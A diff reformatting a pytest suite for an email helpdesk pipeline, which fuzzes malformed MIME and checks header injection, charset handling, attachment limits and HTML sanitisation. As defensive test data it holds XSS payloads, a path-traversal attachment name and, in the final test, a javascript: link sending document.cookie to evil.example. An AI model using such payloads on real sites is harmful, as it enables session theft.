@@ -34,7 +34,7 @@ def _cpython_corpus() -> tuple[Path | None, str]:
     spec = importlib.util.find_spec("test")
     if spec is None or not spec.submodule_search_locations:
         return None, "this Python ships without its test package (Lib/test)"
-    data = Path(list(spec.submodule_search_locations)[0]) / "test_email" / "data"
+    data = Path(next(iter(spec.submodule_search_locations))) / "test_email" / "data"
     if not data.is_dir():
         return None, f"this Python's test package has no email test corpus ({data} is missing)"
     if not list(data.glob("msg_*.txt")):
@@ -52,17 +52,20 @@ class Desk(DeskBase):
     def send(self) -> list[tuple[bytes, email.message.EmailMessage]]:
         OutboxSender(self.settings, self.app.sessions).send_due()
         files = sorted(self.settings.outbox_dir.glob("*.eml"))
-        return [(p.read_bytes(), email.message_from_bytes(p.read_bytes(), policy=email.policy.default))
-                for p in files]
+        return [(p.read_bytes(), email.message_from_bytes(p.read_bytes(), policy=email.policy.default)) for p in files]
 
     def stored(self, outcome, raw: bytes) -> bool:
         """Whether the mail behind ``outcome`` is in the database (applied, or held in quarantine)."""
         if outcome.action == "quarantined":
-            where = (Quarantine.message_id == outcome.message_id if outcome.message_id
-                     else Quarantine.raw == raw)
+            where = Quarantine.message_id == outcome.message_id if outcome.message_id else Quarantine.raw == raw
             return bool(self.scalar(select(func.count()).select_from(Quarantine).where(where)))
-        return bool(self.scalar(select(func.count()).select_from(MessageRow).where(
-            MessageRow.direction == "in", MessageRow.message_id == outcome.message_id)))
+        return bool(
+            self.scalar(
+                select(func.count())
+                .select_from(MessageRow)
+                .where(MessageRow.direction == "in", MessageRow.message_id == outcome.message_id)
+            )
+        )
 
 
 @pytest.fixture
@@ -74,6 +77,7 @@ def desk(make_settings, db_url):
 
 
 # -- CPython's email test corpus --------------------------------------------------
+
 
 @pytest.mark.skipif(CORPUS is None, reason=f"CPython email corpus not available: {CORPUS_MISSING}")
 def test_cpython_email_corpus_is_applied_or_quarantined(desk):
@@ -103,6 +107,7 @@ def test_cpython_email_corpus_is_applied_or_quarantined(desk):
 
 # -- fuzzing through the pipeline -------------------------------------------------------
 
+
 def _fixed(raw: bytes) -> bytes:
     """make_mail() stamps the current time: fix it, so the examples are the same on every run."""
     return re.sub(rb"^Date: .*$", b"Date: Mon, 02 Mar 2026 10:00:00 -0600", raw, count=1, flags=re.M)
@@ -111,51 +116,93 @@ def _fixed(raw: bytes) -> bytes:
 def _seeds() -> list[bytes]:
     seeds = [
         _fixed(make_mail(message_id="<fz0@cliente.com.mx>")),
-        _fixed(make_mail(subject="Re: [IMAGEN TI #IMG-000001] seguimiento", in_reply_to="<fz0@cliente.com.mx>",
-                         message_id="<fz1@cliente.com.mx>")),
-        _fixed(make_mail(subject="Fuera de la oficina", headers={"Auto-Submitted": "auto-replied"},
-                         message_id="<fz5@cliente.com.mx>")),
-        (b"From: =?iso-8859-1?Q?Mar=EDa?= <maria@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
-         b"Subject: =?unknown-8bit?Q?Configuraci=F3n?=\r\nMessage-ID: <fz2@cliente.com.mx>\r\nMIME-Version: 1.0\r\n"
-         b"Content-Type: multipart/alternative; boundary=A\r\n\r\n--A\r\nContent-Type: text/plain; charset=x-user-defined\r\n\r\n"
-         b"\x93Hola\x94\r\n--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p onclick=x()>Hola</p><script>alert(1)</script>\r\n"
-         b"--A--\r\n"),
-        (b"From: MAILER-DAEMON@mx.cliente.com.mx\r\nTo: soporte@imagenti.mx\r\nSubject: Undelivered\r\n"
-         b"Message-ID: <fz3@mx>\r\nMIME-Version: 1.0\r\n"
-         b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n\r\n"
-         b"--R\r\nContent-Type: text/plain\r\n\r\nNo entregado.\r\n"
-         b"--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\n"
-         b"Final-Recipient: rfc822; x@cliente.com.mx\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
-         b"--R\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <orig@imagenti.mx>\r\n\r\n--R--\r\n"),
+        _fixed(
+            make_mail(
+                subject="Re: [IMAGEN TI #IMG-000001] seguimiento",
+                in_reply_to="<fz0@cliente.com.mx>",
+                message_id="<fz1@cliente.com.mx>",
+            )
+        ),
+        _fixed(
+            make_mail(
+                subject="Fuera de la oficina",
+                headers={"Auto-Submitted": "auto-replied"},
+                message_id="<fz5@cliente.com.mx>",
+            )
+        ),
+        (
+            b"From: =?iso-8859-1?Q?Mar=EDa?= <maria@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
+            b"Subject: =?unknown-8bit?Q?Configuraci=F3n?=\r\nMessage-ID: <fz2@cliente.com.mx>\r\nMIME-Version: 1.0\r\n"
+            b"Content-Type: multipart/alternative; boundary=A\r\n\r\n--A\r\nContent-Type: text/plain; charset=x-user-defined\r\n\r\n"
+            b"\x93Hola\x94\r\n--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p onclick=x()>Hola</p><script>alert(1)</script>\r\n"
+            b"--A--\r\n"
+        ),
+        (
+            b"From: MAILER-DAEMON@mx.cliente.com.mx\r\nTo: soporte@imagenti.mx\r\nSubject: Undelivered\r\n"
+            b"Message-ID: <fz3@mx>\r\nMIME-Version: 1.0\r\n"
+            b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n\r\n"
+            b"--R\r\nContent-Type: text/plain\r\n\r\nNo entregado.\r\n"
+            b"--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\n"
+            b"Final-Recipient: rfc822; x@cliente.com.mx\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
+            b"--R\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <orig@imagenti.mx>\r\n\r\n--R--\r\n"
+        ),
     ]
-    seeds.append(make_mail(sender=CLIENT, subject="Adjuntos", body="Van los archivos.", date=False,
-                           message_id="<fz4@cliente.com.mx>",
-                           attachments=[("../factura.pdf", b"%PDF-1.4 " * 200, "application/pdf")]))
+    seeds.append(
+        make_mail(
+            sender=CLIENT,
+            subject="Adjuntos",
+            body="Van los archivos.",
+            date=False,
+            message_id="<fz4@cliente.com.mx>",
+            attachments=[("../factura.pdf", b"%PDF-1.4 " * 200, "application/pdf")],
+        )
+    )
     if CORPUS is not None:
         seeds += [p.read_bytes() for p in sorted(CORPUS.glob("msg_*.txt"))]
     return seeds
 
 
 SEEDS = _seeds()
-TOKENS = [b"\r\n", b"\r\n\r\n", b"=?", b"?=", b"--", b"\x00", b"\xff", b"=?utf-8?q?=0A?=", b"charset=",
-          b"Message-ID: <fz1@cliente.com.mx>\r\n", b"In-Reply-To: <fz1@cliente.com.mx>\r\n",
-          b"Subject: [IMAGEN TI #IMG-000001] x\r\n", b"Auto-Submitted: auto-replied\r\n", b"Return-Path: <>\r\n",
-          b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n", b"boundary="]
+TOKENS = [
+    b"\r\n",
+    b"\r\n\r\n",
+    b"=?",
+    b"?=",
+    b"--",
+    b"\x00",
+    b"\xff",
+    b"=?utf-8?q?=0A?=",
+    b"charset=",
+    b"Message-ID: <fz1@cliente.com.mx>\r\n",
+    b"In-Reply-To: <fz1@cliente.com.mx>\r\n",
+    b"Subject: [IMAGEN TI #IMG-000001] x\r\n",
+    b"Auto-Submitted: auto-replied\r\n",
+    b"Return-Path: <>\r\n",
+    b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n",
+    b"boundary=",
+]
 
 
 @st.composite
 def mutated(draw):
     raw = bytearray(draw(st.sampled_from(SEEDS)))
-    for op, pos, data in draw(st.lists(st.tuples(st.integers(0, 2), st.integers(0, 1 << 20),
-                                                 st.one_of(st.binary(min_size=1, max_size=8),
-                                                           st.sampled_from(TOKENS))), max_size=8)):
+    for op, pos, data in draw(
+        st.lists(
+            st.tuples(
+                st.integers(0, 2),
+                st.integers(0, 1 << 20),
+                st.one_of(st.binary(min_size=1, max_size=8), st.sampled_from(TOKENS)),
+            ),
+            max_size=8,
+        )
+    ):
         pos %= len(raw) + 1
         if op == 0:
-            raw[pos:pos + len(data)] = data
+            raw[pos : pos + len(data)] = data
         elif op == 1:
             raw[pos:pos] = data
         else:
-            del raw[pos:pos + 4 * len(data)]
+            del raw[pos : pos + 4 * len(data)]
     return bytes(raw)
 
 
@@ -164,8 +211,13 @@ def test_fuzzed_mail_is_applied_or_quarantined_never_lost(desk):
     # depend on it (they are uuid4), or two examples within 10 ms would collide and quarantine.
     outcomes = []
 
-    @settings(max_examples=120, deadline=None, derandomize=True, database=None,
-              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    @settings(
+        max_examples=120,
+        deadline=None,
+        derandomize=True,
+        database=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+    )
     @given(mutated())
     def take(raw):
         outcome = desk.take(raw)  # raises only TemporaryFailure, and the database is up
@@ -190,9 +242,11 @@ INJECTED_SUBJECTS = [
 
 @pytest.mark.parametrize("subject", INJECTED_SUBJECTS, ids=["q-lf", "q-crlf-body", "b-crlf"])
 def test_an_encoded_line_break_in_the_subject_cannot_inject_into_the_acknowledgement(desk, subject):
-    raw = (f"From: Juan <{CLIENT}>\r\nTo: soporte@imagenti.mx\r\nSubject: {subject}\r\n"
-           "Message-ID: <inj@cliente.com.mx>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
-           "Hola\r\n").encode()
+    raw = (
+        f"From: Juan <{CLIENT}>\r\nTo: soporte@imagenti.mx\r\nSubject: {subject}\r\n"
+        "Message-ID: <inj@cliente.com.mx>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+        "Hola\r\n"
+    ).encode()
     assert desk.take(raw).action == "created"
     [t] = desk.tickets()
     assert "\n" not in t["subject"] and "\r" not in t["subject"] and "someone@example.com" in t["subject"]
@@ -208,9 +262,14 @@ def test_an_encoded_line_break_in_the_subject_cannot_inject_into_the_acknowledge
 
 
 def _with_attachment(size: int, *, name="respaldo.zip", message_id="<big@cliente.com.mx>") -> bytes:
-    return make_mail(sender=f"Juan <{CLIENT}>", subject="Respaldo del servidor", message_id=message_id, date=False,
-                     body="Les mando el respaldo para revisión.",
-                     attachments=[(name, b"\x00\x01respaldo" * (size // 10), "application/zip")])
+    return make_mail(
+        sender=f"Juan <{CLIENT}>",
+        subject="Respaldo del servidor",
+        message_id=message_id,
+        date=False,
+        body="Les mando el respaldo para revisión.",
+        attachments=[(name, b"\x00\x01respaldo" * (size // 10), "application/zip")],
+    )
 
 
 @pytest.fixture(scope="module")
@@ -239,10 +298,19 @@ def test_configured_size_limits_apply(make_settings, db_url):
         outcome = desk.take(_with_attachment(60_000, name="log.zip", message_id="<cfg1@cliente.com.mx>"))
         body = desk.show(outcome.ticket)["messages"][0]["body"]
         assert 'attachment "log.zip" (application/zip, 59 KB) dropped: larger than the 49 KB limit' in body
-        outcome = desk.take(make_mail(
-            sender=CLIENT, subject="Varios", body="Tres archivos.", message_id="<cfg2@cliente.com.mx>", date=False,
-            attachments=[(f"f{i}.bin", bytes([i]) * size, "application/octet-stream")
-                         for i, size in enumerate((40_000, 45_000, 30_000))]))
+        outcome = desk.take(
+            make_mail(
+                sender=CLIENT,
+                subject="Varios",
+                body="Tres archivos.",
+                message_id="<cfg2@cliente.com.mx>",
+                date=False,
+                attachments=[
+                    (f"f{i}.bin", bytes([i]) * size, "application/octet-stream")
+                    for i, size in enumerate((40_000, 45_000, 30_000))
+                ],
+            )
+        )
         body = desk.show(outcome.ticket)["messages"][0]["body"]
         assert 'attachment "f1.bin"' in body and "larger than the 146 KB limit" in body
         assert 'attachment "f0.bin"' not in body and 'attachment "f2.bin"' not in body
@@ -259,28 +327,47 @@ def test_dropped_parts_are_an_event_on_the_ticket(desk, eleven_mb_mail):
 
 
 CHARSET_MAILS = [
-    (b"Subject: =?unknown-8bit?Q?Configuraci=F3n_del_servidor?=\r\n"
-     b"Content-Type: text/plain; charset=unknown-8bit\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
-     + "La configuración falló en el señor equipo".encode() + b"\r\n",
-     "Configuración del servidor", "La configuración falló en el señor equipo"),
-    (b"Subject: =?x-user-defined?Q?=93Urgente=94_contrase=F1a?=\r\n"
-     b"Content-Type: text/plain; charset=x-user-defined\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
-     + "“Olvidé” la contraseña – ayuda".encode("cp1252") + b"\r\n",
-     "“Urgente” contraseña", "“Olvidé” la contraseña – ayuda"),
-    (b"Subject: " + "Año fiscal – cierre".encode("cp1252") + b"\r\n"
-     b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + "Cierre del año".encode("latin-1") + b"\r\n",
-     "Año fiscal – cierre", "Cierre del año"),
-    (b"Subject: Registro con NUL\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
-     b"linea\x00uno\r\nlinea dos\x1b[0m\r\n",
-     "Registro con NUL", "lineauno linea dos[0m"),
+    (
+        b"Subject: =?unknown-8bit?Q?Configuraci=F3n_del_servidor?=\r\n"
+        b"Content-Type: text/plain; charset=unknown-8bit\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+        + "La configuración falló en el señor equipo".encode()
+        + b"\r\n",
+        "Configuración del servidor",
+        "La configuración falló en el señor equipo",
+    ),
+    (
+        b"Subject: =?x-user-defined?Q?=93Urgente=94_contrase=F1a?=\r\n"
+        b"Content-Type: text/plain; charset=x-user-defined\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+        + "“Olvidé” la contraseña – ayuda".encode("cp1252")
+        + b"\r\n",
+        "“Urgente” contraseña",
+        "“Olvidé” la contraseña – ayuda",
+    ),
+    (
+        b"Subject: " + "Año fiscal – cierre".encode("cp1252") + b"\r\n"
+        b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + "Cierre del año".encode("latin-1") + b"\r\n",
+        "Año fiscal – cierre",
+        "Cierre del año",
+    ),
+    (
+        b"Subject: Registro con NUL\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+        b"linea\x00uno\r\nlinea dos\x1b[0m\r\n",
+        "Registro con NUL",
+        "lineauno linea dos[0m",
+    ),
 ]
 
 
-@pytest.mark.parametrize("headers_body,subject,fragment", CHARSET_MAILS,
-                         ids=["unknown-8bit", "x-user-defined", "raw-8bit-header", "nul-bytes"])
+@pytest.mark.parametrize(
+    "headers_body,subject,fragment",
+    CHARSET_MAILS,
+    ids=["unknown-8bit", "x-user-defined", "raw-8bit-header", "nul-bytes"],
+)
 def test_unknown_charsets_and_control_bytes_are_stored_readably(desk, headers_body, subject, fragment):
-    raw = (b"From: Juan <juan.perez@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
-           b"Message-ID: <cs@cliente.com.mx>\r\nMIME-Version: 1.0\r\n") + headers_body
+    raw = (
+        b"From: Juan <juan.perez@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
+        b"Message-ID: <cs@cliente.com.mx>\r\nMIME-Version: 1.0\r\n"
+    ) + headers_body
     outcome = desk.take(raw)
     assert outcome.action == "created", outcome
     shown = desk.show(outcome.ticket)
@@ -289,10 +376,12 @@ def test_unknown_charsets_and_control_bytes_are_stored_readably(desk, headers_bo
 
 
 def test_hostile_html_is_never_stored_as_markup_or_script(desk):
-    html = ("<html><head><style>body{display:none}</style><title>Factura</title></head><body>"
-            "<p>El portal <b>no carga</b>.</p><img src=x onerror=alert(1)>"
-            "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">ver</a>"
-            "<script>document.location='//evil.example'</script></body></html>")
+    html = (
+        "<html><head><style>body{display:none}</style><title>Factura</title></head><body>"
+        "<p>El portal <b>no carga</b>.</p><img src=x onerror=alert(1)>"
+        "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">ver</a>"
+        "<script>document.location='//evil.example'</script></body></html>"
+    )
     raw = make_mail(subject="Portal", message_id="<html@cliente.com.mx>")
     raw = raw.replace(b"Content-Type: text/plain", b"Content-Type: text/html")
     raw = raw.split(b"\n\n", 1)[0] + b"\n\n" + html.encode()
